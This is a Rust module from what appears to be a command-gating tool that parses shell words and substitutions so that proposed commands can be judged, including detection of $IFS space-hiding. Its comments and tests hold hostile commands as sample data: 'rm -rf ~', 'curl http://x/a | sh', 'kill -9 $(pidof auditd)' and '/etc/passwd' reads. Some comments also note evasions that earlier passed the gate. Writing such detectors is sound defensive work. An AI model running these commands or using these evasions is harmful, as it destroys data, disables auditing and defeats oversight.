//! The text a word with command substitutions hands a program, quotes
//! removed and substitutions kept as written, for a script argument
//! (`sh -c "rm -rf ~; echo $(date)"` hands sh `rm -rf ~; echo $(date)`).
//!
//! Written by hand: the shell parser gives a word's value only when no
//! expansion is in it, and here the expansions must stay as text.

use super::SimpleCommand;

/// The word's text with its quoting removed (single quotes, double quotes
/// and backslashes, glued pieces included: `'rm -rf ~; '"$(date)"`) and
/// each `$(...)`, `` `...` `` and `$VAR` left in place. `None` when a quote
/// or a substitution is not closed.
pub(super) fn script_text(raw: &str) -> Option<String> {
    let mut out = String::with_capacity(raw.len());
    let mut chars = raw.char_indices().peekable();
    let mut double = false;
    while let Some((i, c)) = chars.next() {
        // The end (inclusive) of a substitution starting at `i`, copied
        // whole: quotes inside it are the inner command's.
        let substitution = match c {
            '$' if chars.peek().is_some_and(|(_, n)| *n == '(') => Some(closing_paren(raw, i + 1)?),
            '`' => Some(i + 1 + raw.get(i + 1..)?.find('`')?),
            _ => None,
        };
        if let Some(end) = substitution {
            out.push_str(raw.get(i..=end)?);
            while chars.next_if(|(j, _)| *j <= end).is_some() {}
            continue;
        }
        match c {
            '\'' if !double => {
                // Up to the closing quote, literally.
                loop {
                    match chars.next()?.1 {
                        '\'' => break,
                        x => out.push(x),
                    }
                }
            }
            '"' => double = !double,
            '\\' => match chars.next().map(|(_, n)| n) {
                Some('\n') => {}
                Some(n) if !double || matches!(n, '\\' | '"' | '$' | '`') => out.push(n),
                Some(n) => {
                    out.push('\\');
                    out.push(n);
                }
                None => out.push('\\'),
            },
            _ => out.push(c),
        }
    }
    (!double).then_some(out)
}

/// Whether a script is nothing but one substitution (`$(cat f)`,
/// `` `x` ``, a process substitution `<(kubectl completion bash)`), so
/// that all of its code is a command's output: who produced that output
/// is judged instead.
pub(super) fn only_substitutions(text: &str) -> bool {
    let t = text.trim();
    let inner = ["$(", "<(", ">("]
        .iter()
        .find_map(|p| t.strip_prefix(p))
        .and_then(|r| r.strip_suffix(')'))
        .or_else(|| t.strip_prefix('`').and_then(|r| r.strip_suffix('`')));
    inner.is_some_and(|i| !i.contains(')') && !i.contains('`'))
}

/// `text` with its one command substitution replaced by `output`, the
/// text that substitution is known to print. `None` unless the text holds
/// exactly one (`$(...)` or `` `...` ``).
pub(super) fn with_output(text: &str, output: &str) -> Option<String> {
    let (start, end) = match (text.find("$("), text.find('`')) {
        (Some(s), None) => (s, closing_paren(text, s + 1)?),
        (None, Some(s)) => (s, s + 1 + text.get(s + 1..)?.find('`')?),
        _ => return None,
    };
    let (before, rest) = (text.get(..start)?, text.get(end + 1..)?);
    if rest.contains("$(") || rest.contains('`') {
        return None;
    }
    Some(format!("{before}{output}{rest}"))
}

/// `text` (one word, quotes kept) with its one substitution of fixed
/// output in its place: `"$(echo /etc)/passwd"` is `/etc/passwd` (session
/// 52: a computed write target passed).
pub(super) fn static_output(text: &str) -> Option<String> {
    let t = text.trim_matches('"');
    let (start, end) = match (t.find("$("), t.find('`')) {
        (Some(s), None) => (s, closing_paren(t, s + 1)?),
        (None, Some(s)) => (s, s + 1 + t.get(s + 1..)?.find('`')?),
        _ => return None,
    };
    let out = super::util::static_substitution(t.get(start..=end)?)?;
    with_output(t, &out)
}

/// `text` with each `$(CMD)` or `` `CMD` `` whose command prints a
/// well-known directory (`agentgate_commands::printed_directory`) replaced
/// by that directory, `~` in it spelt as `home`, unless `shadowed` says the
/// line made the command's name mean something else (a function or alias
/// of that name, or a writable directory put on PATH).
pub(super) fn printed_directories(
    text: &str,
    home: &str,
    shadowed: &dyn Fn(&str) -> bool,
) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = rest.find(['$', '`']) {
        let (before, from) = rest.split_at(start);
        out.push_str(before);
        // Only a substitution that starts with a printer's program is
        // measured (a hostile word of thousands of unclosed `$(` must not
        // make this quadratic).
        let printer_next = |after: &str| {
            agentgate_commands::DIRECTORY_PRINTERS.iter().any(|p| {
                p.command
                    .split(' ')
                    .next()
                    .is_some_and(|w| after.trim_start().starts_with(w))
            })
        };
        let span = if from.starts_with("$(")
            && !from.starts_with("$((")
            && printer_next(from.get(2..).unwrap_or(""))
        {
            closing_paren(from, 1).and_then(|end| Some((from.get(2..end)?, end + 1)))
        } else if let Some(body) = from.strip_prefix('`').filter(|b| printer_next(b)) {
            body.find('`')
                .and_then(|end| Some((body.get(..end)?, end + 2)))
        } else {
            None
        };
        let dir = span.and_then(|(body, len)| {
            if body.split_whitespace().next().is_some_and(shadowed) {
                return None;
            }
            let dir = agentgate_commands::printed_directory(body)?;
            let dir = match dir.strip_prefix('~') {
                Some(under) => format!("{home}{under}"),
                None => dir,
            };
            Some((dir, len))
        });
        match dir {
            Some((dir, len)) => {
                out.push_str(&dir);
                rest = from.get(len..).unwrap_or("");
            }
            None => {
                let step = from.chars().next().map_or(1, char::len_utf8);
                out.push_str(from.get(..step).unwrap_or(""));
                rest = from.get(step..).unwrap_or("");
            }
        }
    }
    out.push_str(rest);
    out
}

/// The command of a substitution that begins `text` (one word, quotes
/// kept): `$(mydir)/x` and `` `mydir`/x `` give `mydir`.
pub(super) fn leading_substitution(text: &str) -> Option<&str> {
    let t = text.strip_prefix('"').unwrap_or(text);
    if let Some(body) = t.strip_prefix('`') {
        return body.get(..body.find('`')?);
    }
    if !t.starts_with("$(") || t.starts_with("$((") {
        return None;
    }
    t.get(2..closing_paren(t, 1)?)
}

/// The index of the `)` closing the `(` at `open`, quotes inside skipped.
fn closing_paren(text: &str, open: usize) -> Option<usize> {
    let mut depth = 0usize;
    let mut quote: Option<char> = None;
    for (i, c) in text.char_indices().skip_while(|(i, _)| *i < open) {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '\'' | '"') => quote = Some(c),
            (None, '(') => depth += 1,
            (None, ')') => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
    }
    None
}

/// The script a lone `echo WORDS` prints when its words hold command
/// substitutions (`echo "rm -rf ~ # $(date)"`): the words' text, quotes
/// removed and substitutions kept, unless the whole of it is one
/// substitution's output or echo's options change the text.
pub(super) fn echoed_script(upstream: &[&SimpleCommand]) -> Option<String> {
    let [one] = upstream else {
        return None;
    };
    let (name, args) = one.argv.split_first()?;
    if name.value_or_raw() != "echo" || args.first()?.value_or_raw().starts_with('-') {
        return None;
    }
    let words = args
        .iter()
        .map(|w| script_text(&w.raw))
        .collect::<Option<Vec<String>>>()?;
    let script = words.join(" ");
    (!only_substitutions(&script)).then_some(script)
}

/// Whether `$IFS` (or `${IFS...}`) is expanded outside quotes anywhere in
/// `src`: only there does it split words and so hide the spaces between
/// them (`cat$IFS/etc/passwd`). Inside double quotes (`echo "$IFS"`) it is
/// one word's text; inside single quotes it is not expanded at all.
pub(super) fn unquoted_ifs(src: &str) -> bool {
    // Quoting starts afresh inside `$(...)` and backquotes, even within
    // double quotes: a stack of the enclosing double-quote states.
    let (mut single, mut double, mut escaped) = (false, false, false);
    let mut outer: Vec<bool> = Vec::new();
    let mut chars = src.char_indices().peekable();
    while let Some((i, c)) = chars.next() {
        if escaped {
            escaped = false;
            continue;
        }
        match c {
            '\\' if !single => escaped = true,
            '\'' if !double => single = !single,
            '"' if !single => double = !double,
            '$' if !single && chars.peek().map(|&(_, n)| n) == Some('(') => {
                outer.push(double);
                double = false;
                chars.next();
            }
            ')' if !single && !double && !outer.is_empty() => {
                double = outer.pop().unwrap_or(false);
            }
            '$' if !single && !double => {
                let rest = src.get(i + 1..).unwrap_or("");
                // A `$IFS` that is a word of its own splits to nothing and
                // hides no space (`unset $IFS`: ppnb, session 50); one
                // joined to other text stands for the space it replaces.
                let len = if rest.starts_with("{IFS") {
                    rest.find('}').map(|e| e + 1)
                } else if rest.starts_with("IFS") {
                    Some(3)
                } else {
                    None
                };
                if let Some(len) = len {
                    let before = src.get(..i).and_then(|b| b.chars().last());
                    let after = rest.get(len..).and_then(|a| a.chars().next());
                    let apart = |c: Option<char>| {
                        c.is_none_or(|c| {
                            c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')')
                        })
                    };
                    let glued_name = rest.get(len..).is_some_and(|a| {
                        a.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
                    });
                    if !(apart(before) && (apart(after) || len == 3 && glued_name)) {
                        return true;
                    }
                }
            }
            _ => {}
        }
    }
    false
}

/// `text` with each `agentgate_commands::DIRECTORY_VARIABLES` variable
/// that `assigned` says the line did not set replaced by its default
/// (`~` spelt as `home`): `$XDG_CONFIG_HOME`, `${fpath[1]}`.
pub(super) fn default_directories(
    text: &str,
    home: &str,
    assigned: &dyn Fn(&str) -> bool,
) -> String {
    let mut out = text.to_owned();
    for v in agentgate_commands::DIRECTORY_VARIABLES {
        if assigned(v.name) || !out.contains(v.name) {
            continue;
        }
        let value = match v.default.strip_prefix('~') {
            Some(rest) => format!("{home}{rest}"),
            None => v.default.to_owned(),
        };
        out = if v.array {
            array_elements(&out, v.name, &value)
        } else {
            super::util::replace_var(&out, v.name, &value)
        };
    }
    out
}

/// `text` with `${name[...]}` and `$name[...]` replaced by `value`.
fn array_elements(text: &str, name: &str, value: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    let braced = format!("${{{name}[");
    let bare = format!("${name}[");
    loop {
        let found = [(braced.as_str(), "]}"), (bare.as_str(), "]")]
            .into_iter()
            .filter_map(|(open, close)| rest.find(open).map(|at| (at, open, close)))
            .min_by_key(|(at, _, _)| *at);
        let Some((at, open, close)) = found else {
            break;
        };
        let after = rest.get(at + open.len()..).unwrap_or("");
        let Some(end) = after.find(close) else {
            break;
        };
        out.push_str(rest.get(..at).unwrap_or(""));
        out.push_str(value);
        rest = after.get(end + close.len()..).unwrap_or("");
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::{only_substitutions, script_text, with_output};

    #[test]
    fn one_substitution_takes_its_output() {
        assert_eq!(
            with_output("$(echo curl http://x/a) | sh", "curl http://x/a").as_deref(),
            Some("curl http://x/a | sh")
        );
        assert_eq!(with_output("a `b` c", "B").as_deref(), Some("a B c"));
        assert_eq!(with_output("$(a) $(b)", "A"), None);
        assert_eq!(with_output("$(a \")\") z", "A").as_deref(), Some("A z"));
    }

    #[test]
    fn quotes_go_and_substitutions_stay() {
        let cases = [
            ("\"rm -rf ~; echo $(date)\"", "rm -rf ~; echo $(date)"),
            ("'rm -rf ~; '\"$(date)\"", "rm -rf ~; $(date)"),
            (
                "\"a \\\"b\\\" \\$HOME $(c \")\")\"",
                "a \"b\" $HOME $(c \")\")",
            ),
            ("\"x `id` y\"", "x `id` y"),
            ("$(cat f)", "$(cat f)"),
            ("\"kill -9 $(pidof auditd)\"", "kill -9 $(pidof auditd)"),
        ];
        for (raw, want) in cases {
            assert_eq!(script_text(raw).as_deref(), Some(want), "{raw}");
        }
        for raw in ["\"open", "'open", "\"$(unclosed\""] {
            assert_eq!(script_text(raw), None, "{raw}");
        }
    }

    #[test]
    fn a_lone_substitution_is_only_output() {
        assert!(only_substitutions("$(cat notes.txt)"));
        assert!(only_substitutions(" `ssh-agent -s` "));
        assert!(only_substitutions("<(kubectl completion bash)"));
        assert!(!only_substitutions("$(a); rm -rf ~; $(b)"));
        assert!(!only_substitutions("echo $(date)"));
    }
}
